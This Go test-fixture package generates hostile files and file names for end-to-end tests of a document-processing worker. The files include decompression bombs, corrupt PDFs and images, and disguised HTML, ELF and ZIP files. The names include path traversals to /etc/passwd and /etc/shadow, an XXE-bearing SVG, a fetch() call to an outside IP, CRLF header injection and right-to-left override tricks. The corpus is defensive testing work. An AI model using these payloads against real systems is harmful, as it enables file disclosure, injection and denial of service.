// Package hostile makes the corpus of malformed and malicious inputs that
// the end-to-end tests feed to every job that takes a file name: broken and
// booby-trapped documents, decompression bombs, wrong extensions, and names
// that try to leave the media root or confuse whoever reads them.
//
// Everything is generated in memory, deterministically, from the standard
// library: no file of the corpus is checked in, and each item is exactly
// as hostile as its description says.
package hostile

import (
	"bytes"
	"strings"
)

// Want is what the worker must make of an item. Whatever it is, the job
// ends at its first attempt (no retry), the worker stays up and ready, and
// its temp folder is empty afterwards.
type Want int

const (
	// Refuse: the job is cancelled with an error naming the file.
	Refuse Want = iota
	// Contain: the file may be readable (a renderer may cope with it), so
	// the job either completes or is refused; if it completes, nothing the
	// file carries besides its text (Payload) appears in the output.
	Contain
)

func (w Want) String() string {
	if w == Refuse {
		return "refuse"
	}
	return "contain"
}

// File is a hostile file, to be stored under Name.
type File struct {
	Name string // under the "hostile/" folder; the extension may lie
	What string
	Data []byte
	Want Want
}

// Folder is where the corpus's files are stored.
const Folder = "hostile/"

// Files returns the hostile files, each under a distinct name.
func Files() []File {
	pdf := plainPDF()
	pngOK := smallPNG()
	badCRC := bytes.Clone(pngOK)
	badCRC[29] ^= 0xFF // the IHDR chunk's checksum
	xref := bytes.Clone(pdf)
	if i := bytes.LastIndex(xref, []byte("startxref\n")); i >= 0 {
		copy(xref[i+len("startxref\n"):], "9999999")
	}
	tiffData := noise(64*64, 3)
	files := []File{
		{"truncated-half.pdf", "a PDF cut in half (MuPDF repairs what is left)", pdf[:len(pdf)/2], Contain},
		{"truncated-header.pdf", "a PDF header and nothing else", []byte("%PDF-1.7\n"), Refuse},
		{"empty.pdf", "an empty file named .pdf", nil, Refuse},
		{"corrupt-noise.pdf", "a PDF header followed by random bytes", append([]byte("%PDF-1.4\n"), noise(8192, 1)...), Refuse},
		{"corrupt-stream.pdf", "a page whose deflated content is random bytes", corruptStreamPDF(), Contain},
		{"corrupt-xref.pdf", "a PDF whose startxref points past the end", xref, Contain},
		{"encrypted.pdf", "a PDF encrypted with a user password (RC4, standard handler)", encryptedPDF("s3cret"), Refuse},
		{"javascript.pdf", "a PDF that runs JavaScript on open and on close", javascriptPDF(), Contain},
		{"embedded-file.pdf", "a PDF with an embedded executable and a Launch action", embeddedFilePDF(), Contain},
		{"huge-page.pdf", "a page of 14400 x 14400 units times UserUnit 75000", hugePagePDF(), Contain},
		{"flate-bomb.pdf", "page content inflating 190-fold to 64 MiB", flateBombPDF(), Contain},
		{"page-count-bomb.pdf", "a page tree claiming a million pages, one page listed 10,000 times", pageCountBombPDF(), Contain},
		{"page-tree-cycle.pdf", "a page tree that contains itself", pageTreeCyclePDF(), Contain},
		{"bomb-100k.png", "a PNG declaring 100,000 x 100,000 pixels", pngBomb(100_000, 100_000, 16), Refuse},
		{"bomb-tall.png", "a PNG declaring 1 x 200,000,000 pixels", pngBomb(1, 200_000_000, 16), Refuse},
		{"bomb-inflate.png", "a PNG of 6,000 x 6,000 zero pixels from 43 KiB (within the pixel limit)", pngBomb(6000, 6000, 6000), Contain},
		{"truncated.png", "a PNG cut in half", pngOK[:len(pngOK)/2], Refuse},
		{"bad-crc.png", "a PNG whose header checksum is wrong", badCRC, Contain},
		{"bomb.tif", "a TIFF declaring 100,000 x 100,000 pixels", tiff(100_000, 100_000, noise(16, 2), 0), Refuse},
		{"ifd-loop.tif", "a TIFF whose next page is itself", tiff(64, 64, tiffData, 8), Contain},
		{"truncated.tiff", "a TIFF whose strip lies past the end of the file", tiff(64, 64, tiffData, 0)[:200], Refuse},
		{"bomb.jpg", "a JPEG declaring 65,500 x 65,500 pixels", jpegHeader(65500, 65500), Refuse},
		{"corrupt.jpg", "a JPEG header followed by random bytes", jpegHeader(640, 480), Refuse},
		{"pdf-named.png", "a valid PDF named .png", pdf, Contain},
		{"png-named.pdf", "a valid PNG named .pdf", pngOK, Contain},
		{"zip-named.pdf", "a ZIP archive named .pdf", append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), noise(256, 4)...), Refuse},
		{"html-named.pdf", "an HTML page with a script, named .pdf", []byte("<!DOCTYPE html><html><script>fetch('http://203.0.113.9/" + Payload + "')</script></html>"), Refuse},
		{"elf-named.jpg", "an ELF executable header named .jpg", append([]byte("\x7fELF\x02\x01\x01\x00"), noise(512, 5)...), Refuse},
		{"text-named.tiff", "plain text named .tiff", []byte("hello, " + Payload + "\n"), Refuse},
		{"svg-xxe.png", "an SVG with an external entity reading /etc/passwd, named .png", []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`), Refuse},
		{"garbage.webp", "a RIFF/WEBP header followed by random bytes", append([]byte("RIFF\x00\x10\x00\x00WEBPVP8 "), noise(1024, 6)...), Refuse},
		{"zero.png", "an empty file named .png", nil, Refuse},
		{"garbage.heic", "random bytes named .heic", noise(2048, 8), Refuse},
	}
	for i := range files {
		files[i].Name = Folder + files[i].Name
	}
	return files
}

// Name is a hostile file name: no file is stored under it.
type Name struct {
	Name string
	What string
}

// Decoy is a valid file the tests store so that a confusable name has
// something to be confused with; ConfusableName must not reach it.
const (
	Decoy          = Folder + "passport.pdf"
	ConfusableName = Folder + "p\u0430ssport.pdf" // Cyrillic a
)

// DecoyData is what the tests store under Decoy.
func DecoyData() []byte { return plainPDF() }

// Names returns the hostile names. Every job that takes a name must refuse
// each of them at its first attempt, as a suspicious or missing name.
func Names() []Name {
	return []Name{
		{"../../etc/passwd", "two levels up, to a system file"},
		{"../x.pdf", "one level up"},
		{"scans/../../../etc/shadow", "down then further up"},
		{`..\..\windows\win.ini`, "up with back slashes"},
		{Folder + "./../../etc/passwd", "up through a dot"},
		{"/etc/passwd", "an absolute path"},
		{"//etc/passwd", "an absolute path with a doubled slash"},
		{"a\x00b.pdf", "a NUL byte"},
		{Folder + "scan.pdf\x00.png", "a NUL byte hiding the real extension"},
		{Folder + "scan\n.pdf", "a newline"},
		{Folder + "scan\r\nX-Amz-Injected: 1.pdf", "a CR LF header injection"},
		{Folder + strings.Repeat("a", 1000-len(Folder)-4) + ".pdf", "1,000 characters in one component"},
		{strings.Repeat("d/", 497) + "xy.pdf", "1,000 characters in 497 folders"},
		{strings.Repeat("\u00e9", 500) + ".pdf", "1,000 bytes of two-byte characters"},
		{"", "the empty name"},
		{".", "the current folder"},
		{"/", "the root"},
		{Folder, "a folder, not a file"},
		{Folder + "\u202efdp.exe", "a right-to-left override showing exe.pdf"},
		{ConfusableName, "a Cyrillic a where the stored file has a Latin one"},
		{"\uff0e\uff0e\uff0fetc\uff0fpasswd", "full-width dots and slashes"},
		{"%2e%2e%2fetc%2fpasswd", "a percent-encoded escape"},
		{Folder + "a?x-id=GetObject&versionId=1#f.pdf", "a query string and a fragment"},
	}
}
